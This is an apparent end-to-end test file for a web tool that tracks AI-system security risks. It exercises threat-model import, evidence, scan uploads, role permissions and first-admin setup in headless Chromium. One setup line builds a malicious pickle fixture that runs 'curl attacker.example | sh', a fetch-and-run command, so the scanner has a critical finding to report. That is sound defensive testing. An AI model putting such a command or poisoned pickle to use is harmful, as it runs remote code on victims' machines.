// End-to-end: the real `atlasguard serve` (temp SQLite, port 0) driven through Debian's Chromium, headless.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnServer, type ChildServer } from '../../server/src/test-support/spawn-server.js';
import { osSystemP0, P } from '../../scan-model/src/test-support/pickle-builder.js';
import {
  ADMIN,
  ARTIFACTS,
  apiLogin,
  chromiumAvailable,
  cli,
  ensureBuilt,
  EXAMPLE,
  launchChromium,
  openPage,
  shot,
  signIn as signInAt,
  unlabelledControls,
  VIEWER,
} from './support/browser-harness.js';

const RISK = { email: 'risk@example.org', password: 'risk manager passphrase' };

const haveChromium = chromiumAvailable('the web end-to-end tests');

describe.skipIf(!haveChromium)('web app in headless Chromium', () => {
  let server: ChildServer;
  let browser: Browser;
  let dir: string;
  const cleanups: (() => Promise<void> | void)[] = [];
  let scanSarif: string;
  let cleanSarif: string;
  const problems: string[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'atlasguard-e2e-'));
    cleanups.push(() => {
      rmSync(dir, { recursive: true, force: true });
    });
    mkdirSync(ARTIFACTS, { recursive: true });
    await ensureBuilt();
    // A scan result made by the real scanner: a pickle that calls os.system is a critical finding.
    const models = join(dir, 'models');
    mkdirSync(models);
    writeFileSync(join(models, 'scorer.pkl'), osSystemP0('curl attacker.example | sh'));
    scanSarif = join(dir, 'scan-model.sarif');
    await cli(['scan', 'model', models, '--format', 'sarif', '--out', scanSarif]);
    expect(existsSync(scanSarif)).toBe(true);
    // A later scan of the fixed model: a pickle of an empty dict, clean.
    const fixed = join(dir, 'models-fixed');
    mkdirSync(fixed);
    writeFileSync(join(fixed, 'scorer.pkl'), P().proto(2).emptyDict().stop().done());
    cleanSarif = join(dir, 'scan-model-clean.sarif');
    expect(await cli(['scan', 'model', fixed, '--format', 'sarif', '--out', cleanSarif])).toBe(0);
    expect(existsSync(cleanSarif)).toBe(true);

    server = await spawnServer(
      ['--db', `sqlite:${join(dir, 'atlasguard.sqlite')}`, '--admin-email', ADMIN.email],
      { ATLASGUARD_ADMIN_PASSWORD: ADMIN.password, ATLASGUARD_DATA_DIR: dir },
    );
    cleanups.push(() => server.kill('SIGTERM'));
    const cookie = await apiLogin(server.url, ADMIN);
    const created = await fetch(`${server.url}/api/users`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', cookie },
      body: JSON.stringify({ ...VIEWER, name: 'Vera Viewer', role: 'viewer' }),
    });
    expect(created.status).toBe(201);
    const risk = await fetch(`${server.url}/api/users`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', cookie },
      body: JSON.stringify({ ...RISK, name: 'Rita Risk', role: 'risk' }),
    });
    expect(risk.status).toBe(201);

    browser = await launchChromium();
    cleanups.push(() => browser.close());
  }, 300_000);

  afterAll(async () => {
    for (const cleanup of cleanups.reverse()) await cleanup();
  });

  const newPage = (width = 1280): Promise<{ context: BrowserContext; page: Page }> =>
    openPage(browser, problems, { width, acceptDownloads: true });

  const signIn = (page: Page, who: { email: string; password: string }): Promise<void> =>
    signInAt(page, server.url, who);

  let scoreSession: { cookie: string; system: string } | undefined;
  /** The latest run's residual score from the API, once the page header shows it (the header is not stale). */
  async function shownScore(page: Page): Promise<number> {
    // One API session for every check (sign-ins are rate-limited per address).
    scoreSession ??= { cookie: await apiLogin(server.url, ADMIN), system: await systemId() };
    const { cookie, system } = scoreSession;
    const res = await fetch(`${server.url}/api/systems/${system}/runs`, { headers: { cookie } });
    expect(res.status).toBe(200);
    const runs = (await res.json()) as { items: { createdAt: string; residualScore: number | null }[] };
    const latest = [...runs.items].sort((a, b) => b.createdAt.localeCompare(a.createdAt))[0];
    if (typeof latest?.residualScore !== 'number') throw new Error('no scored run');
    await page.waitForFunction(
      (want) => document.querySelector('[data-testid="residual-score"]')?.textContent === want,
      String(latest.residualScore),
    );
    return latest.residualScore;
  }

  /** Opens a technique's drawer from the matrix (the matrix tab must be shown). */
  async function openTechnique(page: Page, id: string): Promise<Locator> {
    await page.locator(`button.tech[data-technique="${id}"]`).first().click();
    const drawer = page.getByRole('dialog');
    await drawer.getByRole('heading', { name: new RegExp(`^${id.replaceAll('.', '\\.')} `) }).waitFor();
    await drawer.getByRole('heading', { name: /Why it/ }).waitFor();
    return drawer;
  }

  /** Waits until the drawer shows the technique's residual at this level. */
  const residualOf = (drawer: Locator, level: string) =>
    drawer.getByTestId('technique-residual').getByText(level, { exact: true }).waitFor();

  async function uploadScan(page: Page, file: string, done: RegExp): Promise<void> {
    await page.getByLabel('Scan file (JSON or SARIF)').setInputFiles(file);
    await page.getByLabel('Produced by').selectOption('scan-model');
    await page.getByRole('button', { name: 'Upload' }).click();
    await page.getByText(done).waitFor();
  }

  it('admin: import a model, open the matrix and a technique, answer with evidence, upload a scan, accept a risk, export', async () => {
    const { context, page } = await newPage();
    await page.goto(server.url);
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    await shot(page, '01-sign-in');
    await signIn(page, ADMIN);

    // A new system, then its model (pasted into the editor), validated and imported.
    await page.getByLabel('Slug').fill('card-fraud-scoring');
    await page.getByLabel('Name', { exact: true }).fill('Real-time card-fraud scoring');
    await page.getByLabel('Owner').fill('Fraud Analytics');
    await page.getByRole('button', { name: 'Add system' }).click();
    await page.getByRole('heading', { name: 'System model' }).waitFor();
    await page.getByLabel('Model YAML').fill(readFileSync(EXAMPLE, 'utf8'));
    await page.getByRole('button', { name: 'Import as new version' }).click();
    await page.getByText(/Stored as version 1/).waitFor();
    // The editor's reference comes from the JSON Schema the server serves.
    await page.getByText('Model reference (from the JSON Schema)').click();
    await page.locator('details.reference').getByText('exposure', { exact: true }).first().waitFor();

    // Invalid YAML shows line:col issues.
    await page.getByLabel('Model YAML').fill('atlasguard: 1\nsystem:\n  id: [unclosed\n');
    await page.getByRole('button', { name: 'Import as new version' }).click();
    await page
      .getByRole('alert')
      .filter({ hasText: /line \d+/ })
      .first()
      .waitFor();
    await shot(page, '06-model-editor-issues');

    // The matrix and a technique.
    await page.getByRole('link', { name: 'ATLAS matrix' }).click();
    await page.locator('button.tech').first().waitFor();
    const residualBefore = await page.getByTestId('residual-score').innerText();
    await shot(page, '03-system-matrix');
    await page.getByLabel('mitigation coverage').check();
    await shot(page, '03b-system-matrix-coverage');
    await page.getByLabel('residual risk').check();
    await page.locator('button.tech:not(.na)').first().click();
    const drawer = page.getByRole('dialog');
    await drawer.getByRole('heading', { name: /Why it/ }).waitFor();

    // Answer the first question of the technique, with evidence.
    const question = drawer.locator('article.question').first();
    await question.getByLabel('Answer').selectOption('yes');
    await question.getByLabel('Note').fill('Checked in the quarterly review');
    await question.getByRole('button', { name: 'Save answer' }).click();
    await question.getByText('Saved').waitFor();
    await drawer.locator('article.question').first().getByRole('button', { name: 'Attach evidence' }).click();
    const evidence = drawer.locator('article.question').first().locator('form.evidence-form');
    await evidence.getByLabel('Title').fill('Review minutes 2026-Q4');
    await evidence.getByLabel('URL').fill('https://wiki.example.org/ai-review/2026-q4');
    await evidence.getByRole('button', { name: 'Attach' }).click();
    await drawer.getByRole('link', { name: 'Review minutes 2026-Q4' }).waitFor();
    await shot(page, '04-technique-drawer');
    const answered = await shownScore(page);
    expect(answered).toBeLessThan(Number(residualBefore));
    await drawer.getByRole('button', { name: 'Close' }).click();

    // Artifact verification (AML.M0014), credited by a verified answer: AML.T0010's residual falls to medium.
    // Without it the upload below would not move the total: the YAML claims AML.M0014 only for the scorer
    // asset, and the one scored technique that claim credits keeps its likelihood band when it is reopened.
    const t0010 = await openTechnique(page, 'AML.T0010');
    const verify = t0010.locator('article.question[data-question="Q-AML.M0014-1"]');
    await verify.getByLabel('Answer').selectOption('yes');
    await verify.getByLabel('Note').fill('The deploy job checks every artifact hash against the registry');
    await verify.getByRole('button', { name: 'Save answer' }).click();
    await verify.getByText('Saved').waitFor();
    await verify.getByRole('button', { name: 'Attach evidence' }).click();
    const signing = verify.locator('form.evidence-form');
    await signing.getByLabel('Title').fill('Artifact signing log');
    await signing.getByLabel('URL').fill('https://ci.example.org/signing/fraud-scorer');
    await signing.getByRole('button', { name: 'Attach' }).click();
    await t0010.getByRole('link', { name: 'Artifact signing log' }).waitFor();
    const verified = await shownScore(page);
    expect(verified).toBeLessThan(answered);
    await residualOf(t0010, 'medium');
    await t0010.getByRole('button', { name: 'Close' }).click();

    // Upload the scan result made by `atlasguard scan model`: its critical finding reopens AML.M0014.
    await page.getByRole('link', { name: 'Findings' }).click();
    await uploadScan(page, scanSarif, /Uploaded scan-model \(sarif\): critical [1-9]/);
    await shot(page, '07-findings');
    const reopened = await shownScore(page);
    expect(reopened).toBeGreaterThan(verified);

    // History: every change was a run; the residual risk moved.
    await page.getByRole('link', { name: 'History' }).click();
    await page.getByRole('img', { name: /Residual score over/ }).waitFor();
    const rows = await page.locator('table.data').last().locator('tbody tr').count();
    expect(rows).toBeGreaterThanOrEqual(5);
    expect(Number(await page.getByTestId('residual-score').innerText())).toBe(reopened);
    await page.getByText(/new risks?, \d+ resolved/).waitFor();
    // The scan's critical finding reopened the artifact-verification mitigation (evidence run → findings run),
    // and AML.T0010's residual level rose.
    const t0010Change = page.locator('table.diff tbody tr').filter({ hasText: /^AML\.T0010 / });
    await t0010Change.getByText(/AML\.M0014: implemented → planned/).waitFor();
    await t0010Change.getByText('medium → high', { exact: true }).waitFor();
    await shot(page, '05-history');

    // A clean scan of the fixed model lifts the reopening: the score and AML.T0010 come back down.
    await page.getByRole('link', { name: 'Findings' }).click();
    await uploadScan(page, cleanSarif, /Uploaded scan-model \(sarif\): critical 0, high 0/);
    expect(await shownScore(page)).toBe(verified);
    await page.getByRole('link', { name: 'ATLAS matrix' }).click();
    const restored = await openTechnique(page, 'AML.T0010');
    await residualOf(restored, 'medium');
    await restored.getByRole('button', { name: 'Close' }).click();

    // The other views of the system.
    await page.getByRole('link', { name: 'Checklist' }).click();
    await page.getByLabel('Questions for').selectOption('engineer');
    const first = page.locator('article.question').first();
    await first.waitFor();
    // Attach a file as evidence: stored by the server with its SHA-256.
    await first.getByRole('button', { name: 'Attach evidence' }).click();
    const form = first.locator('form.evidence-form');
    await form.getByLabel('file').check();
    await form.getByLabel('Title').fill('Penetration test report');
    await form.getByLabel('File', { exact: true }).setInputFiles({
      name: 'pentest-2026.pdf',
      mimeType: 'application/pdf',
      buffer: Buffer.from('%PDF-1.4 penetration test summary'),
    });
    await form.getByRole('button', { name: 'Attach' }).click();
    await first.getByRole('link', { name: 'Penetration test report' }).waitFor();
    await expect(first.getByText(/pentest-2026\.pdf · 33 B · sha256 [0-9a-f]{12}/).count()).resolves.toBe(1);
    await shot(page, '11-checklist-engineer', false);
    await page.getByRole('link', { name: 'Elements' }).click();
    await page.getByRole('button', { name: 'data', exact: true }).click();
    await page.locator('table.data tbody tr').first().waitFor();
    await shot(page, '12-elements-data', false);
    await page.getByRole('link', { name: 'Attack scenarios' }).click();
    await page.getByRole('heading', { name: 'Attack scenarios' }).waitFor();
    await page.locator('article.scenario').first().waitFor();
    await shot(page, '13-attack-scenarios', false);

    // Accept a risk in the register.
    await page.getByRole('link', { name: 'Risk register' }).click();
    await page.locator('table.risks tbody tr').first().waitFor();
    await page.locator('table.risks tbody tr').first().getByRole('button', { name: /Edit/ }).click();
    const accept = page.getByRole('form', { name: /^Accept / });
    await accept.getByLabel('Reason').fill('Compensating fraud-operations review of the grey zone');
    const expiry = new Date(Date.now() + 90 * 86_400_000).toISOString().slice(0, 10);
    await accept.getByLabel('Expires on').fill(expiry);
    await accept.getByRole('button', { name: 'Accept risk' }).click();
    await page.locator('table.risks').getByText(`until ${expiry}`).waitFor();
    await shot(page, '08-risk-register', false);

    // The portfolio, and the matrix on a large screen.
    await page.getByRole('link', { name: 'Portfolio' }).click();
    await page.getByRole('link', { name: 'Real-time card-fraud scoring' }).first().waitFor();
    await shot(page, '02-portfolio');
    await page.setViewportSize({ width: 1920, height: 1080 });
    await page.goto(`${server.url}/systems/${await systemId()}/matrix`);
    await page.locator('button.tech').first().waitFor();
    await shot(page, '09-matrix-1920');
    // Export the HTML report.
    await page.goto(`${server.url}/systems/${await systemId()}/reports`);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'HTML report' }).click(),
    ]);
    const saved = join(dir, 'report.html');
    await download.saveAs(saved);
    expect(readFileSync(saved, 'utf8')).toMatch(/<!doctype html>/i);
    await shot(page, '14-reports', false);

    // Export the register, as CSV and as XLSX.
    await page.getByRole('link', { name: 'Risk register' }).click();
    for (const format of ['CSV', 'XLSX'] as const) {
      const [file] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('link', { name: format }).click(),
      ]);
      const path = join(dir, `risks.${format.toLowerCase()}`);
      await file.saveAs(path);
      const bytes = readFileSync(path);
      if (format === 'CSV') expect(bytes.toString('utf8')).toMatch(/AML\.T\d{4}/);
      else expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
    }

    await context.close();
    expect(problems).toEqual([]);
  }, 240_000);

  async function systemId(): Promise<string> {
    const cookie = await apiLogin(server.url, ADMIN);
    const res = await fetch(`${server.url}/api/systems`, { headers: { cookie } });
    const body = (await res.json()) as { items: { id: string; slug: string }[] };
    const found = body.items.find((s) => s.slug === 'card-fraud-scoring');
    if (found === undefined) throw new Error('the system was not created');
    return found.id;
  }

  it('viewer: sees no write control, and the API refuses its writes with 403', async () => {
    const { context, page } = await newPage();
    await signIn(page, VIEWER);
    const id = await systemId();
    await expect(page.getByRole('heading', { name: 'Add an AI system' }).count()).resolves.toBe(0);

    await page.goto(`${server.url}/systems/${id}/matrix`);
    // Keyboard: a technique opens with Enter, the drawer closes with Escape.
    await page.locator('button.tech:not(.na)').first().focus();
    await page.keyboard.press('Enter');
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await page.waitForFunction(() => document.activeElement?.getAttribute('data-technique') !== null);
    await page.locator('button.tech:not(.na)').first().click();
    const drawer = page.getByRole('dialog');
    await drawer.locator('article.question').first().waitFor();
    expect(await drawer.getByRole('button', { name: 'Save answer' }).count()).toBe(0);
    expect(await drawer.getByRole('button', { name: 'Attach evidence' }).count()).toBe(0);

    await page.goto(`${server.url}/systems/${id}/findings`);
    await page.getByRole('heading', { name: 'Scan results' }).waitFor();
    expect(await page.getByRole('button', { name: 'Upload' }).count()).toBe(0);
    await page.goto(`${server.url}/systems/${id}/model`);
    await page.getByLabel('Model YAML').waitFor();
    expect(await page.getByRole('button', { name: 'Import as new version' }).count()).toBe(0);
    await page.goto(`${server.url}/risks`);
    await page.locator('table.risks tbody tr').first().waitFor();
    expect(await page.locator('table.risks').getByRole('button', { name: /Edit/ }).count()).toBe(0);
    await shot(page, '10-viewer-risk-register', false);

    // The same writes from the viewer's browser session: refused by the API.
    const statuses = await page.evaluate(async (systemId) => {
      const json = { 'content-type': 'application/json' };
      const put = await fetch(`/api/systems/${systemId}/answers/Q-TEST`, {
        method: 'PUT',
        headers: json,
        body: JSON.stringify({ answer: 'yes', note: '' }),
      });
      const upload = await fetch(`/api/systems/${systemId}/findings`, {
        method: 'POST',
        headers: json,
        body: JSON.stringify({ kind: 'scan-model', format: 'json', document: {} }),
      });
      const model = await fetch(`/api/systems/${systemId}/models`, {
        method: 'POST',
        headers: json,
        body: JSON.stringify({ yaml: 'atlasguard: 1' }),
      });
      return [put.status, upload.status, model.status];
    }, id);
    expect(statuses).toEqual([403, 403, 403]);
    expect(problems).toEqual([]);

    // The label check itself works: an input without a label is found.
    await page.evaluate(() => {
      document.body.append(document.createElement('input'));
    });
    expect(await unlabelledControls(page)).toHaveLength(1);

    // The CSP check itself works: an inline style attribute is refused and reported.
    await page.evaluate(() => {
      const probe = document.createElement('div');
      probe.innerHTML = '<span style="color: red">inline</span>';
      document.body.append(probe);
    });
    await expect.poll(() => problems.some((p) => p.includes('style-src'))).toBe(true);
    await context.close();
    problems.length = 0;
  }, 240_000);

  it('risk manager: works the register, but answers no question and uploads nothing', async () => {
    const { context, page } = await newPage();
    await signIn(page, RISK);
    const id = await systemId();
    await page.goto(`${server.url}/risks`);
    await page.locator('table.risks tbody tr').first().getByRole('button', { name: /Edit/ }).click();
    await page
      .getByRole('form', { name: /^Edit / })
      .getByLabel('Owner')
      .waitFor();
    await page
      .getByRole('form', { name: /^Accept / })
      .getByLabel('Approver')
      .waitFor();
    await page.goto(`${server.url}/systems/${id}/checklist`);
    await page.locator('article.question').first().waitFor();
    expect(await page.getByRole('button', { name: 'Save answer' }).count()).toBe(0);
    await page.goto(`${server.url}/systems/${id}/findings`);
    await page.getByRole('heading', { name: 'Scan results' }).waitFor();
    expect(await page.getByRole('button', { name: 'Upload' }).count()).toBe(0);
    await context.close();
    expect(problems).toEqual([]);
  }, 240_000);

  it('first start: the setup token printed by atlasguard serve creates the first admin in the browser', async () => {
    const fresh = await spawnServer(['--db', `sqlite:${join(dir, 'fresh.sqlite')}`], {
      ATLASGUARD_DATA_DIR: dir,
    });
    cleanups.push(() => fresh.kill('SIGTERM'));
    // The token line may follow the "listening on" line.
    const printed = () => /(setup_[A-Za-z0-9_-]+)/.exec(fresh.stderr())?.[1];
    await expect.poll(printed, { timeout: 30_000 }).toBeDefined();
    const token = printed();
    const { context, page } = await newPage();
    await page.goto(fresh.url);
    await page.getByRole('button', { name: 'First start: create the first admin' }).click();
    await page.getByLabel('Setup token').fill(token ?? '');
    await page.getByLabel('Name').fill('First Admin');
    await page.getByLabel('Email').fill('first@example.org');
    await page.getByLabel('Password').fill('a long enough passphrase');
    await page.getByRole('button', { name: 'Create admin' }).click();
    await page.getByText('The admin account is created. Sign in with it.').waitFor();
    await page.getByLabel('Password').fill('a long enough passphrase');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByTestId('whoami').getByText('admin').waitFor();
    // The token works once.
    const again = await fetch(`${fresh.url}/api/auth/setup`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        token,
        email: 'second@example.org',
        name: 'Second',
        password: 'another passphrase',
      }),
    });
    expect(again.status).toBeGreaterThanOrEqual(400);
    await context.close();
    expect(problems).toEqual([]);
  }, 240_000);
});
